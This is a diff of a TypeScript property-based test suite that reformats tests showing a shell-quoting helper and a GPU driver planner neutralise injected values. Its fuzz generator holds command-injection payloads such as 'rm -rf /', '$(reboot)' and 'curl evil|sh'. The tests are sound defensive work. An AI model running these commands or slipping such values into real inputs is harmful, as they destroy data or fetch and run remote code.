@@ -9,17 +9,31 @@ import { quote, script, sh } from "../../../sdk/shell/shellScript";
 
 const hostile = fc.oneof(
     fc.string({ unit: "grapheme", maxLength: 40 }),
-    fc.constantFrom("1.19.0-1; rm -rf /", "$(reboot)", "`id`", "x' || true; '", "a\nb", "--allow-unauthenticated", "1.20.0-1 && curl evil|sh", "*", "~root", "\\'"),
+    fc.constantFrom(
+        "1.19.0-1; rm -rf /",
+        "$(reboot)",
+        "`id`",
+        "x' || true; '",
+        "a\nb",
+        "--allow-unauthenticated",
+        "1.20.0-1 && curl evil|sh",
+        "*",
+        "~root",
+        "\\'",
+    ),
 );
 
 describe("shell safety", () => {
     it("quote() round-trips any string through a real sh, unchanged", function () {
         this.timeout(60000);
         fc.assert(
-            fc.property(fc.string({ unit: "grapheme", maxLength: 30 }).filter((s) => !s.includes("\0")), (value) => {
-                const out = execFileSync("sh", ["-c", `printf '%s' ${quote(value)}`], { encoding: "utf8" });
-                assert.equal(out, value);
-            }),
+            fc.property(
+                fc.string({ unit: "grapheme", maxLength: 30 }).filter((s) => !s.includes("\0")),
+                (value) => {
+                    const out = execFileSync("sh", ["-c", `printf '%s' ${quote(value)}`], { encoding: "utf8" });
+                    assert.equal(out, value);
+                },
+            ),
             { numRuns: 150 },
         );
     });
@@ -27,10 +41,16 @@ describe("shell safety", () => {
     it("sh`` keeps each interpolated value one argument, whatever it holds", function () {
         this.timeout(60000);
         fc.assert(
-            fc.property(fc.array(hostile.filter((s) => !s.includes("\0")), { maxLength: 4 }), (values) => {
-                const out = execFileSync("sh", ["-c", script(sh`for a in ${values}; do printf '[%s]' "$a"; done`)], { encoding: "utf8" });
-                assert.equal(out, values.map((v) => `[${v}]`).join(""));
-            }),
+            fc.property(
+                fc.array(
+                    hostile.filter((s) => !s.includes("\0")),
+                    { maxLength: 4 },
+                ),
+                (values) => {
+                    const out = execFileSync("sh", ["-c", script(sh`for a in ${values}; do printf '[%s]' "$a"; done`)], { encoding: "utf8" });
+                    assert.equal(out, values.map((v) => `[${v}]`).join(""));
+                },
+            ),
             { numRuns: 100 },
         );
     });
@@ -58,13 +78,19 @@ describe("shell safety", () => {
 
     it("refuses hostile driver versions and branches", () => {
         fc.assert(
-            fc.property(hostile.filter((v) => v !== "" && !/^\d*$/.test(v)), (value) => {
-                assert.throws(() => driverPlan({ distro: { id: "ubuntu", versionId: "24.04" }, version: `580.95.05${value}` }), GpuConfigError);
-            }),
+            fc.property(
+                hostile.filter((v) => v !== "" && !/^\d*$/.test(v)),
+                (value) => {
+                    assert.throws(() => driverPlan({ distro: { id: "ubuntu", versionId: "24.04" }, version: `580.95.05${value}` }), GpuConfigError);
+                },
+            ),
             { numRuns: 100 },
         );
         assert.throws(() => driverPlan({ distro: { id: "ubuntu", versionId: "24.04" }, branch: "580; reboot" }), /driver\.branch/);
-        assert.throws(() => driverPlan({ distro: { id: "ubuntu", versionId: "24.04" }, branch: "580", version: "580.95.05" }), /exactly one of `branch` or `version`/);
+        assert.throws(
+            () => driverPlan({ distro: { id: "ubuntu", versionId: "24.04" }, branch: "580", version: "580.95.05" }),
+            /exactly one of `branch` or `version`/,
+        );
     });
 
     it("passes a sudo password on stdin only, never in the command", () => {
@@ -100,7 +126,8 @@ describe("driver plan", () => {
         assert.deepEqual(names(true), ["driver-packages", "driver-no-unattended-upgrades", "driver-reboot", "driver-verify"]);
     });
     it("refuses a script template with an invalid escape instead of writing 'undefined' into a script", () => {
-        const broken = (strings: TemplateStringsArray) => sh(Object.assign(["a", undefined as unknown as string], { raw: ["a", "\\("] }) as unknown as TemplateStringsArray);
+        const broken = (strings: TemplateStringsArray) =>
+            sh(Object.assign(["a", undefined as unknown as string], { raw: ["a", "\\("] }) as unknown as TemplateStringsArray);
         assert.throws(() => broken`x`, /invalid escape in a script template/);
     });
 });
